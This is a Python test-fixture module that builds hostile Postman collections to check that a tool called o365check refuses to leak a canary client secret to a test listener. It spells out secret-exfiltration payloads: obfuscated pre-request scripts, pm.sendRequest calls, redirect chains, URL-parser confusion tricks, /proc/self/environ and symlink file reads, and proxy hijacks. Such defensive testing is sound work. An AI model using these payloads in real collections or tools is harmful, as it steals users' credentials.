"""Hostile collections, generated: each tries to carry a canary secret to the listener at 192.0.2.2.

Used by tests/test_hostile_collections.py, which runs them all inside a network namespace of its
own (tests/hostile_netns.py). ``expect`` is ``"refused"`` when o365check must refuse (exit 2, a
failed item naming the variable) and ``"no-leak"`` when the attack fails anyway (a TLS failure,
a script API that does not exist) and only the zero-bytes promise is checked.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

CANARY = "CANARY-s3cr3t+/=Xq9~Zk7Lw4Yq1Nd6Hc0"
CONTROL = "CONTROL-plain-value-1234"  # not a secret: the control cases prove the listener records
LISTENER = "192.0.2.2"  # TEST-NET-1, only on the namespace's lo
REDIRECTOR = "http://127.0.0.1:8081"  # loopback (may receive secrets): bounces to LISTENER


@dataclass
class Case:
    name: str
    collection: dict[str, Any]
    expect: str = "refused"
    environment: dict[str, str] = field(default_factory=lambda: {"client_secret": CANARY})
    types: dict[str, str] = field(default_factory=dict)  # variable -> "secret"/"default" (default: by name)
    options: dict[str, Any] = field(default_factory=dict)  # RunOptions fields
    env: dict[str, str] = field(default_factory=dict)  # process environment (proxies)
    files: dict[str, str] = field(default_factory=dict)  # setup: "fifo", "symlink:/target", "text:content"
    control: bool = False  # a non-secret that must arrive (the listener works)
    unsupported: str = ""  # the attack needs a script API o365check lacks: this error instead of a refusal
    variable: str = "client_secret"  # the variable a refusal must name


def _item(name: str, url: Any, method: str = "GET", **extra: Any) -> dict[str, Any]:
    request: dict[str, Any] = {"method": method, "url": url}
    events = []
    for listen in ("prerequest", "test"):
        if listen in extra:
            events.append({"listen": listen, "script": {"exec": extra.pop(listen).split("\n")}})
    request.update(extra)
    item: dict[str, Any] = {"name": name, "request": request}
    if events:
        item["event"] = events
    return item


def _collection(*items: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {
        "info": {"name": "hostile", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": list(items),
        **extra,
    }


def _form(**fields: str) -> dict[str, Any]:
    return {"mode": "urlencoded", "urlencoded": [{"key": k, "value": v} for k, v in fields.items()]}


def _pre(name: str, script: str, url: str = f"http://{LISTENER}/collect", **extra: Any) -> Case:
    return Case(name, _collection(_item(name, url, prerequest=script, **extra)))


S = 'pm.environment.get("client_secret")'
TOKEN_URL = "https://login.microsoftonline.com/t/oauth2/v2.0/token"


def _script_cases() -> list[Case]:
    cases = [
        _pre("script-url-set", f'pm.request.url = "http://{LISTENER}/c?s=" + {S};', url=TOKEN_URL),
        _pre("script-url-encoded", f'pm.request.url = "http://{LISTENER}/c?s=" + encodeURIComponent({S});'),
        Case(
            "script-url-host-swap",
            _collection(
                _item(
                    "swap",
                    TOKEN_URL,
                    "POST",
                    body=_form(client_secret="{{client_secret}}"),
                    prerequest=f'pm.request.url = "http://{LISTENER}/t/oauth2/v2.0/token";',
                )
            ),
        ),
        _pre("script-header-add", f'pm.request.headers.add({{key: "X-Leak", value: {S}}});'),
        _pre("script-header-upsert", f'pm.request.headers.upsert({{key: "X-Leak", value: {S}}});'),
        _pre("script-header-name", f'pm.request.headers.add({{key: {S}, value: "1"}});'),
        _pre("script-header-name-prefixed", f'pm.request.headers.add({{key: "X-" + {S}, value: "1"}});'),
        _pre("script-method", f'pm.request.method = "GET" + {S}.replace(/[^A-Za-z0-9]/g, "");'),
        _pre("script-btoa", f'pm.request.headers.add({{key: "X-B", value: btoa({S})}});'),
        _pre(
            "script-btoa-basic",
            f'pm.request.headers.add({{key: "Authorization", value: "Basic " + btoa("me:" + {S})}});',
        ),
        _pre("script-btoa-offset", f'pm.request.headers.add({{key: "X-B", value: btoa("ab" + {S} + "cd")}});'),
        _pre("script-concat", f'pm.request.url = "http://{LISTENER}/c?s=pre" + {S} + "post";'),
        _pre(
            "script-split-halves",
            f"var s = {S}; pm.request.headers.add({{key: 'X-1', value: s.slice(0, 17)}});"
            " pm.request.headers.add({key: 'X-2', value: s.slice(17)});",
        ),
        _pre("script-split-join", f'pm.request.headers.add({{key: "X-S", value: {S}.split("").join(".")}});'),
        _pre("script-reverse", f'pm.request.headers.add({{key: "X-R", value: {S}.split("").reverse().join("")}});'),
        _pre(
            "script-char-codes",
            f'pm.request.headers.add({{key: "X-C", value: {S}.split("").map(c => c.charCodeAt(0)).join(",")}});',
        ),
        _pre(
            "script-hex",
            f'pm.request.headers.add({{key: "X-H", value: Array.from({S}).map(c => c.charCodeAt(0).toString(16)).join("")}});',
        ),
        _pre(
            "script-dynamic-name",
            'var n = ["client", "secret"].join("_"); pm.request.headers.add({key: "X-D", value: pm.environment.get(n).split("").reverse().join("")});',
        ),
        _pre(
            "script-to-object",
            'pm.request.headers.add({key: "X-O", value: JSON.stringify(pm.environment.toObject())});',
        ),
        _pre(
            "script-replace-in",
            'pm.request.headers.add({key: "X-I", value: pm.variables.replaceIn("{{client_secret}}").split("").reverse().join("")});',
        ),
        _pre(
            "script-legacy-object",
            'pm.request.headers.add({key: "X-L", value: environment["client_secret"].split("").join("-")});',
        ),
        _pre(
            "script-computed-scope",
            'var e = pm["envi" + "ronment"]; var n = atob("Y2xpZW50X3NlY3JldA==");'
            ' pm.request.headers.add({key: "X-E", value: e.get(n).split("").reverse().join("")});',
        ),
        _pre(
            "script-computed-method",
            'var o = pm; var e = o["envi" + "ronment"]; var v = e["g" + "et"]("client_" + "secret");'
            ' pm.request.headers.add({key: "X-M", value: v.split("").reverse().join("")});',
        ),
        _pre(
            "script-reflect",
            'var e = pm.environment; var v = Reflect.apply(e.get, e, ["client_" + "secret"]);'
            ' pm.request.headers.add({key: "X-R", value: v.split("").join(" ")});',
        ),
        _pre(
            "script-scope-alias",
            'var s = pm.environment; var k = ["client", "secret"].join("_");'
            ' pm.request.url = "http://192.0.2.2/c?v=" + s.get(k).split("").reverse().join("");',
        ),
        _pre(
            "script-cryptojs-base64",
            f'pm.request.headers.add({{key: "X-J", value: CryptoJS.enc.Base64.stringify(CryptoJS.enc.Utf8.parse({S}))}});',
        ),
        Case(
            "script-body-rewrite",
            _collection(
                _item(
                    "body",
                    f"http://{LISTENER}/collect",
                    "POST",
                    prerequest=f'pm.request.body = {{mode: "raw", raw: {S}}};',
                )
            ),
            expect="no-leak",
        ),
        Case(
            "derived-variable-next-item",
            _collection(
                _item(
                    "derive",
                    f"{REDIRECTOR}/ok",
                    prerequest=f'pm.environment.set("x", {S}.split("").reverse().join(""));',
                ),
                _item("send", f"http://{LISTENER}/collect?x={{{{x}}}}"),
            ),
            variable="x",
        ),
        Case(
            "derived-collection-variable",
            _collection(
                _item(
                    "derive",
                    f"{REDIRECTOR}/ok",
                    prerequest=f'pm.collectionVariables.set("y", {S}.split("").join("|"));',
                ),
                _item("send", f"http://{LISTENER}/collect", header=[{"key": "X-Y", "value": "{{y}}"}]),
            ),
            variable="y",
        ),
        Case(
            "derived-in-test-script",
            _collection(
                _item("derive", f"{REDIRECTOR}/ok", test=f'pm.globals.set("z", {S}.split("").reverse().join(""));'),
                _item("send", f"http://{LISTENER}/collect?z={{{{z}}}}"),
            ),
            variable="z",
        ),
        Case("template-path-segment", _collection(_item("path", f"http://{LISTENER}/{{{{client_secret}}}}/x"))),
        Case("template-fragment", _collection(_item("fragment", f"http://{LISTENER}/x#{{{{client_secret}}}}"))),
        Case(
            "template-json-body",
            _collection(
                _item(
                    "json",
                    f"http://{LISTENER}/collect",
                    "POST",
                    header=[{"key": "Content-Type", "value": "application/json"}],
                    body={"mode": "raw", "raw": '{"s": "{{client_secret}}"}'},
                )
            ),
        ),
        Case(
            "header-name-template",
            _collection(
                _item("hname", f"http://{LISTENER}/collect", header=[{"key": "{{client_secret}}", "value": "1"}])
            ),
        ),
    ]
    return cases


def _redirect_cases() -> list[Case]:
    cases = []
    target = f"http://{LISTENER}/collect"
    for code in (301, 302, 303, 307, 308):
        cases.append(
            Case(
                f"redirect-{code}-body",
                _collection(
                    _item(
                        "r", f"{REDIRECTOR}/r/{code}?to={target}", "POST", body=_form(client_secret="{{client_secret}}")
                    )
                ),
                expect="refused" if code in (307, 308) else "no-leak",  # 301-303 turn a POST into a bodiless GET
            )
        )
        cases.append(
            Case(
                f"redirect-{code}-header",
                _collection(
                    _item(
                        "r",
                        f"{REDIRECTOR}/r/{code}?to={target}",
                        header=[{"key": "X-Key", "value": "{{client_secret}}"}],
                    )
                ),
            )
        )
        cases.append(
            Case(
                f"redirect-{code}-query-echo",
                _collection(_item("r", f"{REDIRECTOR}/echo/{code}?s={{{{client_secret}}}}")),
            )
        )
    return cases


def _send_request_cases() -> list[Case]:
    url = f"http://{LISTENER}/collect"
    calls = {
        "query": f'pm.sendRequest("{url}?s=" + {S}, function () {{}});',
        "header": f'pm.sendRequest({{url: "{url}", header: {{"X-Key": {S}}}}}, function () {{}});',
        "form": f'pm.sendRequest({{url: "{url}", method: "POST", body: {{mode: "urlencoded", urlencoded: [{{key: "s", value: {S}}}]}}}}, function () {{}});',
        "raw-btoa": f'pm.sendRequest({{url: "{url}", method: "POST", body: {{mode: "raw", raw: btoa({S})}}}}, function () {{}});',
        "redirect-307": f'pm.sendRequest({{url: "{REDIRECTOR}/r/307?to={url}", method: "POST", body: {{mode: "raw", raw: {S}}}}}, function () {{}});',
        "reversed": f'pm.sendRequest("{url}?s=" + {S}.split("").reverse().join(""), function () {{}});',
        "await": f'await pm.sendRequest({{url: "{url}", header: {{"X-Key": {S}}}}});',
    }
    return [_pre(f"send-request-{name}", script, url=f"{REDIRECTOR}/ok") for name, script in calls.items()]


def _oauth2(token_url: str, secret: str = "{{client_secret}}", client_auth: str | None = None) -> dict[str, Any]:
    params = [
        {"key": "grant_type", "value": "client_credentials"},
        {"key": "accessTokenUrl", "value": token_url},
        {"key": "clientId", "value": "app"},
        {"key": "clientSecret", "value": secret},
        {"key": "scope", "value": "https://graph.microsoft.com/.default"},
    ]
    if client_auth:
        params.append({"key": "client_authentication", "value": client_auth})
    return {"type": "oauth2", "oauth2": params}


def _oauth_cases() -> list[Case]:
    urls = {
        "http-listener": f"http://{LISTENER}/token",
        "https-attacker": "https://attacker:9443/token",
        "backslash-userinfo": "https://ATTACKER:9443\\@login.microsoftonline.com/tok",
        "identity-over-http": "http://login.microsoftonline.com/t/oauth2/v2.0/token",
        "userinfo": f"https://login.microsoftonline.com@{LISTENER}/token",
    }
    cases = [
        Case(f"oauth2-{name}", _collection(_item("graph", f"{REDIRECTOR}/ok", auth=_oauth2(url))))
        for name, url in urls.items()
    ]
    cases.append(
        Case(
            "oauth2-basic-header",
            _collection(
                _item("graph", f"{REDIRECTOR}/ok", auth=_oauth2(f"http://{LISTENER}/token", client_auth="header"))
            ),
        )
    )
    cases.append(
        Case(
            "oauth2-token-url-variable",
            _collection(_item("graph", f"{REDIRECTOR}/ok", auth=_oauth2("{{token_url}}"))),
            environment={"client_secret": CANARY, "token_url": f"http://{LISTENER}/t"},
        )
    )
    return cases


def _parser_cases() -> list[Case]:
    urls = {
        "backslash-userinfo": "https://ATTACKER:9443\\@login.microsoftonline.com/tok",
        "backslash-plain": f"http://{LISTENER}\\@login.microsoftonline.com/tok",
        "backslash-path": f"http://{LISTENER}\\login.microsoftonline.com/tok",
        "userinfo-identity": f"http://login.microsoftonline.com@{LISTENER}/tok",
        "userinfo-port": f"https://login.microsoftonline.com:443@{LISTENER}:9443/tok",
        "hash-at": f"http://{LISTENER}#@login.microsoftonline.com/tok",
        "query-at": f"http://{LISTENER}?@login.microsoftonline.com/tok",
        "percent-host": "http://192%2e0%2e2%2e2/tok",
        "percent-identity-suffix": "https://login.microsoftonline.com%2eattacker/tok",
        "unicode-homoglyph": "https://l\u043egin.microsoftonline.com/tok",
        "unicode-fullwidth-dots": "https://login\uff0emicrosoftonline\uff0ecom/tok",  # no valid IDNA: not sent
        "idna-punycode": "https://xn--lgin-55d.microsoftonline.com/tok",
        "ipv4-decimal": "http://3221225986/tok",
        "ipv4-octal": "http://0300.0000.0002.0002/tok",
        "ipv4-hex": "http://0xc0.0x00.0x02.0x02/tok",
        "ipv4-hex-single": "http://0xc0000202/tok",
        "ipv4-short": "http://192.0.514/tok",
        "ipv6": "http://[2001:db8::2]/tok",
        "ipv6-mapped": "http://[::ffff:192.0.2.2]/tok",
        "trailing-dot-identity": "https://login.microsoftonline.com./tok",
        "trailing-dot-ip": f"http://{LISTENER}./tok",
        "uppercase-scheme-http": "HTTP://LOGIN.MICROSOFTONLINE.COM/tok",
        "identity-suffix-host": "https://login.microsoftonline.com.attacker/tok",
        "identity-prefix-host": "https://attacker-login.microsoftonline.com.evil/tok",
        "scheme-relative": f"//{LISTENER}/tok",
        "no-scheme": f"{LISTENER}/tok",
        "port-80-on-https": f"https://{LISTENER}:80/tok",
    }
    unusable = {"unicode-fullwidth-dots", "scheme-relative"}  # requests cannot send these at all
    return [
        Case(
            f"parser-{name}",
            _collection(_item("p", url, "POST", body=_form(client_secret="{{client_secret}}"))),
            expect="no-leak" if name in unusable else "refused",
        )
        for name, url in urls.items()
    ]


def _classification_cases() -> list[Case]:
    return [
        Case(
            "late-oauth2-variable",
            _collection(
                _item("first", f"http://{LISTENER}/collect?v={{{{cs}}}}"),
                _item("token", f"{REDIRECTOR}/ok", auth=_oauth2(TOKEN_URL, "{{cs}}")),
            ),
            environment={"cs": CANARY},
            types={"cs": "default"},
            variable="cs",
        ),
        Case(
            "late-oauth2-folder",
            _collection(
                _item("first", f"http://{LISTENER}/collect", header=[{"key": "X-V", "value": "{{plain}}"}]),
                {
                    "name": "folder",
                    "item": [_item("token", f"{REDIRECTOR}/ok")],
                    "auth": _oauth2(TOKEN_URL, "{{plain}}"),
                },
            ),
            environment={"plain": CANARY},
            types={"plain": "default"},
            variable="plain",
        ),
        Case(
            "late-oauth2-literal",
            _collection(
                _item("first", f"http://{LISTENER}/collect?v={CANARY}"),
                _item("token", f"{REDIRECTOR}/ok", auth=_oauth2(TOKEN_URL, CANARY)),
            ),
            environment={},
            variable="clientSecret",
        ),
        Case(
            "secret-option",
            _collection(_item("first", f"http://{LISTENER}/collect?v={{{{foo}}}}")),
            environment={"foo": CANARY},
            types={"foo": "default"},
            options={"secrets": ["foo"]},
            variable="foo",
        ),
        Case(
            "typed-secret-odd-name",
            _collection(_item("first", f"http://{LISTENER}/collect?v={{{{banana}}}}")),
            environment={"banana": CANARY},
            types={"banana": "secret"},
            variable="banana",
        ),
        Case(
            "collection-variable-secret",
            _collection(
                _item("first", f"http://{LISTENER}/collect?v={{{{kiwi}}}}"),
                variable=[{"key": "kiwi", "value": CANARY, "type": "secret"}],
            ),
            environment={},
            variable="kiwi",
        ),
    ]


def _file_cases() -> list[Case]:
    def body_file(src: str) -> dict[str, Any]:
        return {"mode": "file", "file": {"src": src}}

    def form_file(src: str) -> dict[str, Any]:
        return {"mode": "formdata", "formdata": [{"key": "f", "type": "file", "src": src}]}

    url = f"http://{LISTENER}/collect"
    return [
        Case("file-proc-environ", _collection(_item("f", url, "POST", body=body_file("/proc/self/environ")))),
        Case(
            "file-parent-dotdot",
            _collection(_item("f", url, "POST", body=body_file("../outside.env"))),
            files={"../outside.env": f"text:AZURE_CLIENT_SECRET={CANARY}\n"},
        ),
        Case(
            "file-symlink-out",
            _collection(_item("f", url, "POST", body=body_file("link.env"))),
            files={"link.env": "symlink:../outside.env", "../outside.env": f"text:{CANARY}"},
        ),
        Case("file-dev-zero", _collection(_item("f", url, "POST", body=body_file("/dev/zero")))),
        Case(
            "file-symlink-dev-zero",
            _collection(_item("f", url, "POST", body=body_file("zero"))),
            files={"zero": "symlink:/dev/zero"},
            options={"insecure_file_read": True},
        ),
        Case("file-fifo", _collection(_item("f", url, "POST", body=body_file("pipe"))), files={"pipe": "fifo"}),
        Case("file-formdata-environ", _collection(_item("f", url, "POST", body=form_file("/proc/self/environ")))),
        Case(
            "file-insecure-read-environ",
            _collection(_item("f", url, "POST", body=body_file("/proc/self/environ"))),
            options={"insecure_file_read": True},
        ),
        Case(
            "file-absolute-outside",
            _collection(_item("f", url, "POST", body=body_file("{{dir}}/../outside.env"))),
            files={"../outside.env": f"text:{CANARY}"},
            environment={"client_secret": CANARY, "dir": "."},
        ),
    ]


def _proxy_cases() -> list[Case]:
    proxy = f"http://{LISTENER}:8080"
    return [
        Case(
            "proxy-http-to-loopback",
            _collection(_item("p", f"{REDIRECTOR}/ok?s={{{{client_secret}}}}")),
            env={"HTTP_PROXY": proxy, "NO_PROXY": ""},
        ),
        Case(
            "proxy-all-proxy-header",
            _collection(_item("p", f"{REDIRECTOR}/ok", header=[{"key": "X-K", "value": "{{client_secret}}"}])),
            env={"ALL_PROXY": proxy, "NO_PROXY": ""},
        ),
        Case(
            "proxy-https-connect-identity",
            _collection(_item("p", TOKEN_URL, "POST", body=_form(client_secret="{{client_secret}}"))),
            env={"HTTPS_PROXY": proxy, "NO_PROXY": ""},
            expect="no-leak",  # a CONNECT tunnel: TLS end to end, the proxy sees only the host name
        ),
        Case(
            "proxy-send-request",
            _pre(
                "x", f'pm.sendRequest("{REDIRECTOR}/ok?s=" + {S}, function () {{}});', url=f"{REDIRECTOR}/ok"
            ).collection,
            env={"HTTP_PROXY": proxy, "NO_PROXY": ""},
        ),
        Case(
            "proxy-oauth2-http",
            _collection(_item("p", f"{REDIRECTOR}/ok", auth=_oauth2(f"{REDIRECTOR}/token"))),
            env={"HTTP_PROXY": proxy, "NO_PROXY": ""},
        ),
    ]


def _record_cases() -> list[Case]:
    """The same attacks while recording: refused before the cassette layer, so never recorded."""
    record = {"record": "{folder}/cassette.yaml"}
    return [
        Case(f"record-{case.name}", case.collection, case.expect, case.environment, options=record)
        for case in _script_cases()[:4] + _redirect_cases()[-3:] + _oauth_cases()[:1]
    ]


def _control_cases() -> list[Case]:
    return [
        Case(
            "control-plain",
            _collection(_item("c", f"http://{LISTENER}/collect?v={CONTROL}")),
            expect="no-leak",
            control=True,
        ),
        Case(
            "control-proxy",
            _collection(_item("c", f"{REDIRECTOR}/ok?v={CONTROL}")),
            expect="no-leak",
            control=True,
            env={"HTTP_PROXY": f"http://{LISTENER}:8080", "NO_PROXY": ""},
        ),
        Case(
            "control-redirect",
            _collection(_item("c", f"{REDIRECTOR}/r/307?to=http://{LISTENER}/collect?v={CONTROL}")),
            expect="no-leak",
            control=True,
        ),
    ]


def all_cases() -> list[Case]:
    return (
        _script_cases()
        + _redirect_cases()
        + _send_request_cases()
        + _oauth_cases()
        + _parser_cases()
        + _classification_cases()
        + _file_cases()
        + _proxy_cases()
        + _record_cases()
        + _control_cases()
    )


def environment_document(case: Case) -> dict[str, Any]:
    return {
        "name": case.name,
        "values": [
            {"key": k, "value": v, "type": case.types.get(k, "default"), "enabled": True}
            for k, v in case.environment.items()
        ],
    }


if __name__ == "__main__":
    print(json.dumps([c.name for c in all_cases()], indent=1), len(all_cases()))
